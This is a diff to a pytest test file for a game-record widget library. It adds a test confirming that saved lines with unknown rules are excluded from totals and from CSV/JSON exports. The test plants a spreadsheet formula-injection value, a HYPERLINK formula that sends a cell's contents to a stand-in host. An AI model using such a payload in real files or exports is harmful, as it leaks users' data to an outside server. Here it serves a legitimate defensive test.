@@ -13,6 +13,7 @@ import pytest
 from hanawidgets.core.registry import GAMES
 from hanawidgets.core.session import Session, shared_with
 from hanawidgets.text import translate
+from hanawidgets.widgets.kept_file import _LINE, Belongings
 from hanawidgets.widgets.own_games import LONGEST, kept_of, read, written
 
 from .kind import Kind
@@ -46,7 +47,7 @@ def test_a_game_is_kept_when_it_is_over_and_reads_back(kind: Kind) -> None:
     session = a_game(kind)
     kept, outcome = kept_of(session), session.now.outcome
     assert kept and outcome
-    assert read(lines(session)) == [kept._replace(day=DAY)]
+    assert read(lines(session), GAMES[str(kind)]) == [kept._replace(day=DAY)]
     assert kept.points == outcome.points["A"] and (kept.result == "l") == ("A" not in outcome.winners)
     assert len(kept.deals) == sum(event.kind in ("dealt",) for move in session.moves for event in move.events)
     assert kind.make(start=str(session)).view["finished"] == written(kept)
@@ -79,7 +80,7 @@ def test_games_come_to_sums_and_to_files(kind: Kind) -> None:
     assert table.view["own"] is None
     done(table, "own_games", kept=f"{kept}\nnonsense\n{DAY}*no rules*x")
     (row,) = table.view["own"]["rows"]
-    games = read(kept)
+    games = read(kept, GAMES[str(kind)])
     assert (row["games"], row["won"]) == (2, sum(one.result == "w" for one in games))
     assert row["points"].replace("−", "-") == f"{sum(one.points for one in games) / 2:.1f}"
     assert table.view["own"]["lines"]
@@ -101,6 +102,22 @@ def test_a_line_cannot_bring_anything_but_numbers_of_what_is_known(kind: Kind) -
     assert table.view["own"]["rows"] and not any("no-such-thing" in text for text in table.view["own"]["lines"])
     done(table, "own_games", kept=line.replace(SHORT[str(kind)].partition(";")[0], "no_rules") + "*")
     assert not table.view["own"]["rows"]
+
+
+def test_a_line_whose_rules_are_none_is_in_no_sum_and_no_file(kind: Kind) -> None:
+    line = lines(a_game(kind))
+    foreign = line.replace(SHORT[str(kind)].partition(";")[0], '=HYPERLINK("http://x.invalid/"&A1,"x")')
+    assert "=HYPERLINK" in foreign
+    table = kind.make(seed=1)
+    done(table, "own_games", kept=foreign)
+    assert not table.view["own"]["rows"] and len(table.view["own"]["lines"]) == 1, "the word that there is none"
+    for form in ("csv", "json"):
+        done(table, "own_export", kept=f"{foreign}\n{line}", form=form)
+        text = table.view["file"]["text"]
+        assert "HYPERLINK" not in text and line.split("*")[4] in text
+    good, bad = (_LINE.write({"game": str(kind), "line": each}) for each in (line, foreign))
+    found = Belongings.read(f"{good}\n{bad}")
+    assert (found.unread, found.games) == (1, {str(kind): line}), "a file with such a line is told of"
 
 
 @pytest.mark.slow
